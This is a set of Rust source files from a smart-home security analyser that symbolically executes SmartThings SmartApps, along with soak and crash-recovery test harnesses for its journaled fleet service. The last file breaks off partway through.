                Ok(vec![(st, Sv::List(items))])
            }
        }
    }

    fn resolve_ident(&mut self, name: &str, st: &St) -> Sv {
        if let Some(v) = st.lookup(name) {
            return v.clone();
        }
        if let Some(decl) = self.inputs.get(name).cloned() {
            return self.input_value(&decl);
        }
        match name {
            "location" => Sv::Location,
            "state" | "atomicState" => Sv::StateObj,
            "app" => Sv::AppObj,
            "settings" => Sv::Map(BTreeMap::new()),
            "log" => Sv::AppObj, // log.* calls are no-ops
            _ => Sv::Null,
        }
    }

    pub(crate) fn input_value(&mut self, decl: &InputDecl) -> Sv {
        if let Some(slot) = decl.device_slot() {
            return if slot.multiple {
                Sv::Devices(vec![slot])
            } else {
                Sv::Device(slot)
            };
        }
        match &decl.input_type {
            InputType::Number
            | InputType::Decimal
            | InputType::Text
            | InputType::Time
            | InputType::Phone
            | InputType::Contact
            | InputType::Enum(_)
            | InputType::Bool
            | InputType::Mode => Sv::Term(Term::Var(VarId::UserInput {
                app: self.app.clone(),
                name: decl.name.clone(),
            })),
            _ => Sv::Term(self.fresh_opaque("input")),
        }
    }

    fn eval_prop(&mut self, recv: &Sv, name: &str, _st: &St) -> Sv {
        match recv {
            Sv::Device(slot) => self.device_prop(slot, name),
            Sv::Devices(slots) => {
                // Property on a collection reads "some device's" value; use
                // the first slot (they share a type).
                match slots.first() {
                    Some(s) => self.device_prop(s, name),
                    None => Sv::Null,
                }
            }
            Sv::Event => self.event_prop(name),
            Sv::Location => match name {
                "mode" | "currentMode" => Sv::Term(Term::Var(VarId::Mode)),
                "modes" => Sv::List(Vec::new()),
                _ => Sv::Term(self.fresh_opaque("location")),
            },
            Sv::StateObj => Sv::Term(Term::Var(VarId::State {
                app: self.app.clone(),
                name: name.to_string(),
            })),
            Sv::Map(entries) => entries.get(name).cloned().unwrap_or(Sv::Null),
            Sv::List(items) => match name {
                "size" => Sv::num((items.len() as i64) * hg_capability::domains::SCALE),
                "first" => items.first().cloned().unwrap_or(Sv::Null),
                "last" => items.last().cloned().unwrap_or(Sv::Null),
                _ => Sv::Term(self.fresh_opaque("listProp")),
            },
            _ => Sv::Term(self.fresh_opaque("prop")),
        }
    }

    fn device_prop(&mut self, slot: &DeviceSlot, name: &str) -> Sv {
        // `currentSwitch`, `currentTemperature`, ... read the attribute.
        if let Some(attr) = name.strip_prefix("current") {
            if !attr.is_empty() {
                let attr = decapitalize(attr);
                return Sv::Term(Term::Var(VarId::canonical_attr(
                    &slot.device_ref(&self.app),
                    &attr,
                )));
            }
        }
        match name {
            "id" | "displayName" | "label" | "name" => Sv::Term(self.fresh_opaque("devMeta")),
            // Direct attribute read (`dev.temperature` is legal Groovy for
            // some wrappers).
            attr if capability::lookup(&slot.capability)
                .map(|c| c.attribute(attr).is_some())
                .unwrap_or(false) =>
            {
                Sv::Term(Term::Var(VarId::canonical_attr(
                    &slot.device_ref(&self.app),
                    attr,
                )))
            }
            _ => Sv::Term(self.fresh_opaque("devProp")),
        }
    }

    /// The device that fired the current trigger, as a symbolic value.
    pub(crate) fn event_prop_device(&self) -> Sv {
        match &self.current_trigger {
            Some(Trigger::DeviceEvent {
                subject:
                    hg_rules::varid::DeviceRef::Unbound {
                        input,
                        capability,
                        kind,
                        ..
                    },
                ..
            }) => Sv::Device(DeviceSlot {
                input: input.clone(),
                capability: capability.clone(),
                kind: *kind,
                multiple: false,
            }),
            _ => Sv::Null,
        }
    }

    fn event_prop(&mut self, name: &str) -> Sv {
        let trigger = self.current_trigger.clone();
        match name {
            "value" | "doubleValue" | "floatValue" | "integerValue" | "numberValue"
            | "numericValue" | "stringValue" => match &trigger {
                Some(t) if t.observed_var().is_some() => Sv::Term(Term::Var(self.evt_value_var())),
                _ => Sv::Term(self.fresh_opaque("evtValue")),
            },
            "device" => self.event_prop_device(),
            "name" => match &trigger {
                Some(Trigger::DeviceEvent { attribute, .. }) => Sv::sym(attribute.clone()),
                _ => Sv::Term(self.fresh_opaque("evtName")),
            },
            "displayName" | "descriptionText" | "deviceId" | "date" => {
                Sv::Term(self.fresh_opaque("evtMeta"))
            }
            "isStateChange" => Sv::bool(true),
            _ => Sv::Term(self.fresh_opaque("evtProp")),
        }
    }

    fn eval_gstring(&mut self, parts: &[GStrPart], st: St) -> Result<Vec<(St, Sv)>, ExtractError> {
        let mut st = st;
        let mut text = String::new();
        let mut all_concrete = true;
        for part in parts {
            match part {
                GStrPart::Lit(s) => text.push_str(s),
                GStrPart::Interp(e) => {
                    let (s2, v) = self.eval_single(e, st)?;
                    st = s2;
                    match v.as_concrete() {
                        Some(c) => text.push_str(&c.to_string()),
                        None => all_concrete = false,
                    }
                }
            }
        }
        let v = if all_concrete {
            Sv::sym(text)
        } else {
            Sv::Term(self.fresh_opaque("gstr"))
        };
        Ok(vec![(st, v)])
    }

    fn eval_binary(
        &mut self,
        op: BinaryOp,
        lhs: &Expr,
        rhs: &Expr,
        st: St,
    ) -> Result<Vec<(St, Sv)>, ExtractError> {
        let mut out = Vec::new();
        for (st, l) in self.eval(lhs, st)? {
            for (st, r) in self.eval(rhs, st.clone())? {
                let v = self.apply_binary(op, &l, &r);
                out.push((st, v));
            }
        }
        Ok(out)
    }

    fn apply_binary(&mut self, op: BinaryOp, l: &Sv, r: &Sv) -> Sv {
        use BinaryOp::*;
        match op {
            Eq | Ne | Lt | Le | Gt | Ge => {
                let cmp = match op {
                    Eq => CmpOp::Eq,
                    Ne => CmpOp::Ne,
                    Lt => CmpOp::Lt,
                    Le => CmpOp::Le,
                    Gt => CmpOp::Gt,
                    Ge => CmpOp::Ge,
                    _ => unreachable!(),
                };
                match (l.as_term(), r.as_term()) {
                    (Some(a), Some(b)) => Sv::Pred(Formula::cmp(a, cmp, b)),
                    _ => {
                        // Comparing non-data values (devices etc.): decide
                        // what we can, otherwise opaque.
                        match (l.truthiness(), r, cmp) {
                            (Some(_), Sv::Null, CmpOp::Eq) => Sv::bool(matches!(l, Sv::Null)),
                            (Some(_), Sv::Null, CmpOp::Ne) => Sv::bool(!matches!(l, Sv::Null)),
                            _ => Sv::Pred(Formula::cmp(
                                self.fresh_opaque("cmp"),
                                CmpOp::Eq,
                                Term::sym("true"),
                            )),
                        }
                    }
                }
            }
            And | Or => {
                let lp = self.to_pred(l);
                let rp = self.to_pred(r);
                match (lp, rp) {
                    (Some(a), Some(b)) => Sv::Pred(match op {
                        And => Formula::and([a, b]),
                        _ => Formula::or([a, b]),
                    }),
                    _ => Sv::Pred(Formula::cmp(
                        self.fresh_opaque("bool"),
                        CmpOp::Eq,
                        Term::sym("true"),
                    )),
                }
            }
            Add | Sub | Mul | Div | Rem => match (l.as_term(), r.as_term()) {
                (Some(a), Some(b)) => {
                    // String concatenation when both are concrete symbols.
                    if let (Term::Const(Value::Sym(x)), Term::Const(Value::Sym(y))) = (&a, &b) {
                        if op == Add {
                            return Sv::sym(format!("{x}{y}"));
                        }
                    }
                    Sv::Term(match op {
                        Add => Term::Add(Box::new(a), Box::new(b)),
                        Sub => Term::Sub(Box::new(a), Box::new(b)),
                        Mul => Term::Mul(Box::new(a), Box::new(b)),
                        Div => Term::Div(Box::new(a), Box::new(b)),
                        Rem => return Sv::Term(self.fresh_opaque("mod")),
                        _ => unreachable!(),
                    })
                }
                _ => Sv::Term(self.fresh_opaque("arith")),
            },
            In => match (l.as_term(), r) {
                (Some(a), Sv::List(items)) => {
                    let alts: Vec<Formula> = items
                        .iter()
                        .filter_map(Sv::as_term)
                        .map(|b| Formula::cmp(a.clone(), CmpOp::Eq, b))
                        .collect();
                    if alts.is_empty() {
                        Sv::bool(false)
                    } else {
                        Sv::Pred(Formula::or(alts))
                    }
                }
                _ => Sv::Pred(Formula::cmp(
                    self.fresh_opaque("in"),
                    CmpOp::Eq,
                    Term::sym("true"),
                )),
            },
        }
    }

    // Not a conversion of `self` — it lowers `v` while minting fresh
    // opaque variables, which needs `&mut self`.
    #[allow(clippy::wrong_self_convention)]
    pub(crate) fn to_pred(&mut self, v: &Sv) -> Option<Formula> {
        match v {
            Sv::Pred(f) => Some(f.clone()),
            Sv::Concrete(c) => Some(if c.truthy() {
                Formula::True
            } else {
                Formula::False
            }),
            Sv::Null => Some(Formula::False),
            Sv::Term(t) => Some(Formula::cmp(t.clone(), CmpOp::Ne, Term::Const(Value::Null))),
            other => other
                .truthiness()
                .map(|b| if b { Formula::True } else { Formula::False }),
        }
    }

    fn eval_pred(&mut self, cond: &Expr, st: St) -> Result<Vec<(St, BranchPred)>, ExtractError> {
        let mut out = Vec::new();
        for (st, v) in self.eval(cond, st)? {
            let pred = match v.truthiness() {
                Some(b) => BranchPred::Known(b),
                None => match self.to_pred(&v) {
                    Some(Formula::True) => BranchPred::Known(true),
                    Some(Formula::False) => BranchPred::Known(false),
                    Some(f) => BranchPred::Sym(f),
                    None => BranchPred::Known(true),
                },
            };
            out.push((st, pred));
        }
        Ok(out)
    }
}

/// Branch predicate classification.
#[allow(clippy::large_enum_variant)]
pub(crate) enum BranchPred {
    Known(bool),
    Sym(Formula),
}

/// Checks the satisfiability of a rule's situation (trigger constraint plus
/// path condition) with auto-inferred domains; `Unknown` counts as feasible.
fn path_feasible(rule: &Rule) -> bool {
    let situation = rule.situation();
    if situation == Formula::True {
        return true;
    }
    let model = hg_solver::Model::new();
    !matches!(model.solve(&situation), hg_solver::Outcome::Unsat)
}

pub(crate) fn decapitalize(s: &str) -> String {
    let mut chars = s.chars();
    match chars.next() {
        Some(first) => first.to_lowercase().collect::<String>() + chars.as_str(),
        None => String::new(),
    }
}
