//! Symbolic values manipulated during SmartApp execution.

use hg_capability::device_kind::DeviceKind;
use hg_rules::constraint::Term;
use hg_rules::value::Value;
use hg_rules::varid::DeviceRef;
use std::collections::BTreeMap;

/// A device slot: an `input` the app declared with a `capability.*` type.
#[derive(Debug, Clone, PartialEq)]
pub struct DeviceSlot {
    /// The input variable name (`tv1`).
    pub input: String,
    /// The requested capability, short form (`switch`).
    pub capability: String,
    /// Device kind classified from the input title/description.
    pub kind: DeviceKind,
    /// Whether the input allows multiple devices.
    pub multiple: bool,
}

impl DeviceSlot {
    /// The unbound [`DeviceRef`] for this slot within `app`.
    pub fn device_ref(&self, app: &str) -> DeviceRef {
        DeviceRef::Unbound {
            app: app.to_string(),
            input: self.input.clone(),
            capability: self.capability.clone(),
            kind: self.kind,
        }
    }
}

/// A symbolic value.
#[derive(Debug, Clone, PartialEq)]
pub enum Sv {
    /// A known concrete value.
    Concrete(Value),
    /// A symbolic expression over constraint variables.
    Term(Term),
    /// A boolean-valued predicate (the result of a comparison or logical
    /// expression), ready to become a path constraint when branched on.
    Pred(hg_rules::constraint::Formula),
    /// A single device reference.
    Device(DeviceSlot),
    /// A list of devices (a `multiple: true` input, or a literal list of
    /// device-typed values).
    Devices(Vec<DeviceSlot>),
    /// The event object passed to a handler.
    Event,
    /// The `location` object.
    Location,
    /// The `state` / `atomicState` object.
    StateObj,
    /// The `app` object.
    AppObj,
    /// A Groovy list.
    List(Vec<Sv>),
    /// A Groovy map.
    Map(BTreeMap<String, Sv>),
    /// `null` / undefined.
    Null,
}

impl Sv {
    /// A concrete number (already scaled).
    pub fn num(n: i64) -> Sv {
        Sv::Concrete(Value::Num(n))
    }

    /// A concrete symbol/string.
    pub fn sym(s: impl Into<String>) -> Sv {
        Sv::Concrete(Value::Sym(s.into()))
    }

    /// A concrete boolean.
    pub fn bool(b: bool) -> Sv {
        Sv::Concrete(Value::Bool(b))
    }

    /// Converts to a constraint [`Term`] when the value is data-like.
    ///
    /// Devices, objects and collections have no term form.
    pub fn as_term(&self) -> Option<Term> {
        match self {
            Sv::Concrete(v) => Some(Term::Const(v.clone())),
            Sv::Term(t) => Some(t.clone()),
            Sv::Null => Some(Term::Const(Value::Null)),
            _ => None,
        }
    }

    /// The concrete value, if known.
    pub fn as_concrete(&self) -> Option<&Value> {
        match self {
            Sv::Concrete(v) => Some(v),
            _ => None,
        }
    }

    /// The string payload, if this is a concrete symbol.
    pub fn as_sym(&self) -> Option<&str> {
        self.as_concrete().and_then(Value::as_sym)
    }

    /// The device slots this value denotes, if any.
    pub fn devices(&self) -> Option<Vec<DeviceSlot>> {
        match self {
            Sv::Device(d) => Some(vec![d.clone()]),
            Sv::Devices(ds) => Some(ds.clone()),
            Sv::List(items) => {
                let mut out = Vec::new();
                for item in items {
                    out.extend(item.devices()?);
                }
                Some(out)
            }
            _ => None,
        }
    }

    /// Concrete truthiness, when statically decidable.
    pub fn truthiness(&self) -> Option<bool> {
        match self {
            Sv::Concrete(v) => Some(v.truthy()),
            Sv::Null => Some(false),
            Sv::Device(_)
            | Sv::Devices(_)
            | Sv::Event
            | Sv::Location
            | Sv::StateObj
            | Sv::AppObj => Some(true),
            Sv::List(items) => Some(!items.is_empty()),
            Sv::Map(entries) => Some(!entries.is_empty()),
            Sv::Term(_) => None,
            Sv::Pred(f) => match f {
                hg_rules::constraint::Formula::True => Some(true),
                hg_rules::constraint::Formula::False => Some(false),
                _ => None,
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn slot(name: &str) -> DeviceSlot {
        DeviceSlot {
            input: name.into(),
            capability: "switch".into(),
            kind: DeviceKind::Light,
            multiple: false,
        }
    }

    #[test]
    fn term_conversion() {
        assert_eq!(Sv::num(5).as_term(), Some(Term::num(5)));
        assert_eq!(Sv::Null.as_term(), Some(Term::Const(Value::Null)));
        assert_eq!(Sv::Device(slot("a")).as_term(), None);
    }

    #[test]
    fn device_collection() {
        let d = Sv::Device(slot("a"));
        assert_eq!(d.devices().unwrap().len(), 1);
        let l = Sv::List(vec![
            Sv::Device(slot("a")),
            Sv::Devices(vec![slot("b"), slot("c")]),
        ]);
        assert_eq!(l.devices().unwrap().len(), 3);
        assert_eq!(Sv::num(1).devices(), None);
    }

    #[test]
    fn truthiness() {
        assert_eq!(Sv::bool(false).truthiness(), Some(false));
        assert_eq!(Sv::Null.truthiness(), Some(false));
        assert_eq!(Sv::Device(slot("a")).truthiness(), Some(true));
        assert_eq!(Sv::List(vec![]).truthiness(), Some(false));
        assert_eq!(Sv::Term(Term::num(1)).truthiness(), None);
    }

    #[test]
    fn device_ref_is_unbound() {
        let r = slot("lamp").device_ref("MyApp");
        assert!(matches!(r, DeviceRef::Unbound { ref app, .. } if app == "MyApp"));
    }
}
