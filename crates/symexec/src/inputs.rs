//! Parsing of `input` declarations and `preferences` blocks.
//!
//! Inputs are the symbolic sources of a SmartApp (paper §V-B "Symbolic
//! inputs"): device references and user-provided values. They also define
//! the configuration schema the configuration collector (`hg-config`)
//! gathers at install time.

use crate::sv::DeviceSlot;
use hg_capability::capability;
use hg_capability::device_kind::DeviceKind;
use hg_lang::ast::{Arg, Expr, ExprKind, Item, Program, Stmt, StmtKind};

/// The declared type of an input.
#[derive(Debug, Clone, PartialEq)]
pub enum InputType {
    /// `capability.*` — a device reference.
    Capability(String),
    /// `device.*` — a non-standard device type (paper §VIII-B found three
    /// store apps using these; handled when the extended catalogue is on).
    NonStandardDevice(String),
    /// `number` — integer user value.
    Number,
    /// `decimal` — decimal user value.
    Decimal,
    /// `enum` — selection from options.
    Enum(Vec<String>),
    /// `text` / `string`.
    Text,
    /// `time` — a time of day.
    Time,
    /// `phone` — a phone number.
    Phone,
    /// `contact` — a contact book entry.
    Contact,
    /// `mode` — a location mode.
    Mode,
    /// `bool` — a boolean flag.
    Bool,
    /// `hub`, `icon`, or other platform types we carry through opaquely.
    Other(String),
}

/// One parsed `input` declaration.
#[derive(Debug, Clone, PartialEq)]
pub struct InputDecl {
    /// Variable name the value is bound to.
    pub name: String,
    /// Declared type.
    pub input_type: InputType,
    /// The `title:` text, if present (used for device-kind classification).
    pub title: Option<String>,
    /// Whether the input is required (default true on SmartThings).
    pub required: bool,
    /// Whether multiple devices may be selected.
    pub multiple: bool,
}

impl InputDecl {
    /// The device slot for capability inputs.
    pub fn device_slot(&self) -> Option<DeviceSlot> {
        let capability = match &self.input_type {
            InputType::Capability(c) => c.clone(),
            InputType::NonStandardDevice(d) => d.clone(),
            _ => return None,
        };
        let hint = format!("{} {}", self.title.as_deref().unwrap_or(""), self.name);
        let mut kind = DeviceKind::classify(&hint);
        // Capability names that pin the kind regardless of description.
        kind = match capability.as_str() {
            "lock" => DeviceKind::Lock,
            "valve" => DeviceKind::Valve,
            "alarm" => DeviceKind::Siren,
            "doorControl" | "garageDoorControl" => DeviceKind::DoorOpener,
            "windowShade" => DeviceKind::Curtain,
            "colorControl" | "colorTemperature" | "switchLevel" => DeviceKind::Light,
            "musicPlayer" | "speechSynthesis" => DeviceKind::Speaker,
            "imageCapture" => DeviceKind::Camera,
            _ => kind,
        };
        Some(DeviceSlot {
            input: self.name.clone(),
            capability,
            kind,
            multiple: self.multiple,
        })
    }
}

/// Collects every input declaration in a program: bare top-level `input`
/// statements and those nested in `preferences { section(..) { ... } }` or
/// `preferences { page(..) { section(..) { ... } } }` blocks.
pub fn collect_inputs(program: &Program) -> Vec<InputDecl> {
    let mut out = Vec::new();
    for item in &program.items {
        if let Item::Stmt(stmt) = item {
            collect_from_stmt(stmt, &mut out);
        }
    }
    out
}

fn collect_from_stmt(stmt: &Stmt, out: &mut Vec<InputDecl>) {
    if let StmtKind::Expr(e) = &stmt.kind {
        collect_from_expr(e, out);
    }
}

fn collect_from_expr(expr: &Expr, out: &mut Vec<InputDecl>) {
    if let ExprKind::Call {
        recv: None,
        name,
        args,
        closure,
        ..
    } = &expr.kind
    {
        match name.as_str() {
            "input" => {
                if let Some(decl) = parse_input(args) {
                    out.push(decl);
                }
            }
            "preferences" | "section" | "page" | "dynamicPage" | "paragraph" => {
                if let Some(c) = closure {
                    for stmt in &c.body.stmts {
                        collect_from_stmt(stmt, out);
                    }
                }
            }
            _ => {}
        }
    }
}

fn parse_input(args: &[Arg]) -> Option<InputDecl> {
    let mut positional = args.iter().filter(|a| a.name.is_none());
    let name = str_of(&positional.next()?.value)?;
    let type_text = positional
        .next()
        .and_then(|a| str_of(&a.value))
        .unwrap_or_default();

    let named = |key: &str| args.iter().find(|a| a.name.as_deref() == Some(key));
    let title = named("title").and_then(|a| str_of(&a.value));
    let required = match named("required").map(|a| &a.value.kind) {
        Some(ExprKind::Bool(b)) => *b,
        _ => true,
    };
    let multiple = matches!(
        named("multiple").map(|a| &a.value.kind),
        Some(ExprKind::Bool(true))
    );

    let input_type = if let Some(cap) = type_text.strip_prefix("capability.") {
        if capability::lookup(cap).is_some() {
            InputType::Capability(cap.to_string())
        } else {
            InputType::NonStandardDevice(cap.to_string())
        }
    } else if let Some(dev) = type_text.strip_prefix("device.") {
        InputType::NonStandardDevice(dev.to_string())
    } else {
        match type_text.as_str() {
            "number" => InputType::Number,
            "decimal" => InputType::Decimal,
            "text" | "string" => InputType::Text,
            "time" => InputType::Time,
            "phone" => InputType::Phone,
            "contact" => InputType::Contact,
            "mode" => InputType::Mode,
            "bool" | "boolean" => InputType::Bool,
            "enum" => {
                let options = named("options")
                    .map(|a| enum_options(&a.value))
                    .unwrap_or_default();
                InputType::Enum(options)
            }
            other => InputType::Other(other.to_string()),
        }
    };
    Some(InputDecl {
        name,
        input_type,
        title,
        required,
        multiple,
    })
}

fn enum_options(e: &Expr) -> Vec<String> {
    match &e.kind {
        ExprKind::ListLit(items) => items.iter().filter_map(str_of).collect(),
        _ => Vec::new(),
    }
}

fn str_of(e: &Expr) -> Option<String> {
    e.as_str().map(str::to_string)
}

#[cfg(test)]
mod tests {
    use super::*;
    use hg_lang::parser::parse;

    #[test]
    fn bare_inputs_listing1() {
        let p = parse(
            r#"
input "tv1", "capability.switch", title: "Which TV?"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number", title: "Higher than?"
input "window1", "capability.switch", title: "window opener"
"#,
        )
        .unwrap();
        let inputs = collect_inputs(&p);
        assert_eq!(inputs.len(), 4);
        assert_eq!(inputs[0].input_type, InputType::Capability("switch".into()));
        assert_eq!(inputs[2].input_type, InputType::Number);
        let tv = inputs[0].device_slot().unwrap();
        assert_eq!(tv.kind, DeviceKind::Tv);
        let window = inputs[3].device_slot().unwrap();
        assert_eq!(window.kind, DeviceKind::WindowOpener);
        assert!(inputs[1].device_slot().is_some());
        assert!(inputs[2].device_slot().is_none());
    }

    #[test]
    fn preferences_nesting() {
        let p = parse(
            r#"
preferences {
    section("Devices") {
        input "lights", "capability.switch", title: "Which lights?", multiple: true
    }
    section("Settings") {
        input "delay", "number", title: "Minutes?", required: false
    }
}
"#,
        )
        .unwrap();
        let inputs = collect_inputs(&p);
        assert_eq!(inputs.len(), 2);
        assert!(inputs[0].multiple);
        assert!(!inputs[1].required);
        assert_eq!(inputs[0].device_slot().unwrap().kind, DeviceKind::Light);
    }

    #[test]
    fn nonstandard_device_type() {
        let p = parse(r#"input "feeder", "device.petfeedershield""#).unwrap();
        let inputs = collect_inputs(&p);
        assert_eq!(
            inputs[0].input_type,
            InputType::NonStandardDevice("petfeedershield".into())
        );
        // Unknown capability names are non-standard too.
        let p2 = parse(r#"input "x", "capability.jawboneUser""#).unwrap();
        let inputs2 = collect_inputs(&p2);
        assert_eq!(
            inputs2[0].input_type,
            InputType::NonStandardDevice("jawboneUser".into())
        );
    }

    #[test]
    fn enum_and_misc_types() {
        let p = parse(
            r#"
input "level", "enum", options: ["low", "high"]
input "when", "time"
input "phone1", "phone"
input "armed", "bool"
input "homeMode", "mode"
"#,
        )
        .unwrap();
        let inputs = collect_inputs(&p);
        assert_eq!(
            inputs[0].input_type,
            InputType::Enum(vec!["low".into(), "high".into()])
        );
        assert_eq!(inputs[1].input_type, InputType::Time);
        assert_eq!(inputs[2].input_type, InputType::Phone);
        assert_eq!(inputs[3].input_type, InputType::Bool);
        assert_eq!(inputs[4].input_type, InputType::Mode);
    }

    #[test]
    fn capability_pins_kind() {
        let p = parse(r#"input "frontDoor", "capability.lock", title: "door""#).unwrap();
        let inputs = collect_inputs(&p);
        assert_eq!(inputs[0].device_slot().unwrap().kind, DeviceKind::Lock);
    }
}
