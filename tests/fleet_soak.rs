//! Large-population soak harness: stands up a generated heterogeneous
//! fleet (`hg_bench::fleet_gen`), asserts chained-threat detection
//! (`crates/detector/src/chained.rs`, paper §VI-D) fires across the
//! population, and kills the journaled fleet at its final offset to prove
//! recovery is bit-identical — with the background checkpointer running
//! concurrently the whole time.
//!
//! Sized by `HG_SOAK_HOMES` (default 300, so the suite stays a fast CI
//! smoke; the recorded BENCH_PR8.json datapoint runs 100 000 through the
//! `journal_wal` bench, which shares the same generator).

use hg_bench::fleet_gen::{populate, relay_ladder, FleetSpec};
use hg_journal::{DirBackend, Journal, MemBackend};
use hg_service::{start_checkpointer, Fleet, RuleStore};
use std::sync::Arc;
use std::time::{Duration, Instant};

fn soak_homes() -> usize {
    std::env::var("HG_SOAK_HOMES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(300)
}

/// The generated population must exercise the chained-threat detector:
/// relay-ladder homes confirm their CT links one by one, so the last
/// link's install report carries multi-hop chains.
#[test]
fn generated_population_reports_chained_threats() {
    let spec = FleetSpec::sized(soak_homes());
    let fleet = Fleet::builder(RuleStore::shared())
        .shards(spec.shards)
        .build();
    let (ids, stats) = populate(&fleet, &spec);
    assert_eq!(ids.len(), spec.homes);
    assert_eq!(
        stats.failures, 0,
        "generator must not hit errors: {stats:?}"
    );
    let expected_chain_homes = (spec.homes as u64).div_ceil(spec.chain_every as u64);
    assert!(
        stats.chained_reports >= expected_chain_homes,
        "every relay-ladder home must surface a chained report: \
         {} < {expected_chain_homes} ({stats:?})",
        stats.chained_reports
    );

    // Re-probing the last ladder link on a chain home reproduces the
    // chain: detection is a pure function of the installed rule set.
    let ladder = relay_ladder(spec.chain_depth);
    let (_, last_link) = ladder.last().expect("ladder has links");
    let chain_home = ids[0]; // home 0 always installs the ladder
    let report = fleet
        .check_install(chain_home, last_link)
        .expect("ladder link is installed on home 0");
    assert!(
        !report.chains.is_empty(),
        "re-check of {last_link} on the chain home must carry chains"
    );
    // `Chain::len` counts edges: a `chain_depth`-link ladder spans
    // `chain_depth - 1` CovertTriggering edges.
    assert!(
        report
            .chains
            .iter()
            .any(|c| c.len() >= spec.chain_depth - 1),
        "a chain must span the whole {}-link ladder: {:?}",
        spec.chain_depth,
        report.chains
    );
}

/// Kill-and-recover at the final offset, with the background checkpointer
/// racing the populate: the recovered fleet is snapshot-identical and the
/// journal's delta checkpoints bounded the replay work.
#[test]
fn soak_fleet_survives_kill_and_recover() {
    let spec = FleetSpec {
        seed: 0xBEEF,
        ..FleetSpec::sized(soak_homes())
    };
    let backend = MemBackend::new();
    let journal = Arc::new(Journal::open(Box::new(backend.clone())).unwrap());
    let fleet = Arc::new(
        Fleet::builder(RuleStore::shared())
            .shards(spec.shards)
            .build(),
    );
    assert!(fleet.attach_journal(journal.clone()).unwrap());

    // Checkpoint aggressively while the generator mutates the fleet: the
    // scheduler's exclusive gate must interleave cleanly with the
    // journaled mutation paths.
    let checkpointer = start_checkpointer(fleet.clone(), Duration::from_millis(5));
    let (_ids, stats) = populate(&fleet, &spec);
    checkpointer.stop();
    assert!(stats.chained_reports > 0, "{stats:?}");

    // Crash: reopen the backing storage cold and recover.
    let reopened = Arc::new(Journal::open(Box::new(backend.fork())).unwrap());
    let replay_span = reopened.next_offset() - reopened.last_checkpoint_offset().unwrap_or(0);
    let recovered = Fleet::recover(reopened).expect("soak journal recovers");
    assert_eq!(recovered.len(), fleet.len());
    assert_eq!(
        recovered.snapshot().unwrap().to_text(),
        fleet.snapshot().unwrap().to_text(),
        "recovered soak fleet must be bit-identical"
    );
    if journal.last_checkpoint_offset().unwrap_or(0) > 0 {
        assert!(
            replay_span < journal.next_offset(),
            "delta checkpoints must have bounded the replay tail"
        );
    }

    // The recovered fleet keeps journaling: `Fleet::recover` re-attached
    // the reopened journal, so new mutations land as fresh records.
    let recovered_journal = recovered.journal().expect("recover re-attaches").clone();
    let before = recovered_journal.next_offset();
    recovered.create_home().unwrap();
    assert!(
        recovered_journal.next_offset() > before,
        "post-recovery mutations must keep journaling"
    );
}

/// Real-disk soak smoke: the journaled population runs over a
/// [`DirBackend`] in a scratch directory, measuring append+sync latency
/// through the whole WAL stack (frame encode, segment file append,
/// fsync) and proving cold-start recovery from the on-disk bytes.
///
/// Gated behind `HG_SOAK_DISK=1` — CI machines with throttled or
/// network-backed disks would turn fsync timing into noise. Population
/// size still follows `HG_SOAK_HOMES`.
#[test]
fn disk_backend_soak_smoke_measures_append_sync_latency() {
    if std::env::var("HG_SOAK_DISK").map_or(true, |v| v != "1") {
        eprintln!("skipping disk soak (set HG_SOAK_DISK=1 to run)");
        return;
    }
    let dir = std::env::temp_dir().join(format!("hg-soak-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let backend = DirBackend::new(&dir).expect("scratch journal dir");
    let journal = Arc::new(Journal::open(Box::new(backend)).unwrap());
    let spec = FleetSpec {
        seed: 0xD15C,
        ..FleetSpec::sized(soak_homes())
    };
    let fleet = Arc::new(
        Fleet::builder(RuleStore::shared())
            .shards(spec.shards)
            .build(),
    );
    assert!(fleet.attach_journal(journal.clone()).unwrap());

    let started = Instant::now();
    let (_ids, stats) = populate(&fleet, &spec);
    let elapsed = started.elapsed();
    assert_eq!(
        stats.failures, 0,
        "disk soak must not hit errors: {stats:?}"
    );
    journal.sync().expect("final fsync");
    let records = journal.next_offset();
    assert!(records > 0, "population must journal records");
    eprintln!(
        "disk soak: {} homes, {records} records in {:?} ({:.1} µs/record, fsynced)",
        spec.homes,
        elapsed,
        elapsed.as_micros() as f64 / records as f64,
    );

    // Cold-start: a fresh process-equivalent reopen of the same directory
    // recovers the identical fleet.
    let reopened = Arc::new(Journal::open(Box::new(DirBackend::new(&dir).unwrap())).unwrap());
    let recovered = Fleet::recover(reopened).expect("disk journal recovers");
    assert_eq!(
        recovered.snapshot().unwrap().to_text(),
        fleet.snapshot().unwrap().to_text(),
        "disk-recovered soak fleet must be bit-identical"
    );
    let _ = std::fs::remove_dir_all(&dir);
}
