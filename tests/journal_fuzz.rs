//! Differential crash-consistency harness for the write-ahead journal
//! (mirroring `persist_fuzz.rs`): seeded churn scripts drive a
//! **journaled** fleet through creates, installs, confirms, uninstalls,
//! upgrades, removals, policy changes, reconfigurations and fleet-wide
//! sweeps, taking delta checkpoints mid-script. The journal's backing
//! storage is then crashed at **every record boundary** (fork + truncate,
//! some forks with torn-tail garbage appended) and recovered with
//! [`Fleet::recover`]:
//!
//! * recovery must always succeed — a torn tail is truncated, never a
//!   panic;
//! * at every boundary the fleet had a recorded ground truth for
//!   (checkpoints land between operations), the recovered fleet's
//!   snapshot is **bit-identical** to the live fleet's at that point;
//! * at mid-operation boundaries (e.g. between a `StoreIngested` and its
//!   `InstallCommitted`), the recovered fleet still snapshot-round-trips;
//! * the fully-recovered fleet answers probe `check_install` reports and
//!   mediation stats identically to the live fleet, and compaction
//!   (checkpoint folding + segment drops) preserves all of it.

use hg_config::ConfigInfo;
use hg_journal::{Journal, MemBackend};
use hg_service::{Fleet, HomeId, PolicyTable, RuleStore};
use homeguard_core::{HandlingPolicy, HgError};
use std::collections::BTreeMap;
use std::sync::Arc;

/// SplitMix64, as in `tests/properties.rs`.
struct Gen {
    state: u64,
}

impl Gen {
    fn new(seed: u64) -> Gen {
        Gen {
            state: seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0xd1b5_4a32_d192_ed03,
        }
    }

    fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

